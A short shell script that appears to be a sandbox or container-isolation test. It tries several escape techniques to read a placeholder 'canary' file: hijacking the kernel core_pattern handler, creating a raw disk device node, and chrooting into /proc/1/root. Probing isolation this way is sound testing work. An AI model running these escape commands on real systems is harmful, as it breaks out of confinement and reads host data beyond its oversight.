#!/bin/sh
# says: ended write-the-kernel
echo '|/bin/sh -c "cat @VICTIM@/state/canary"' > /proc/sys/kernel/core_pattern
echo b > /proc/sysrq-trigger.not
mount -t proc proc /proc; mknod /tmp/disk b 254 0 && head -c 100 /tmp/disk
chroot /proc/1/root cat @VICTIM@/state/canary
echo ended write-the-kernel
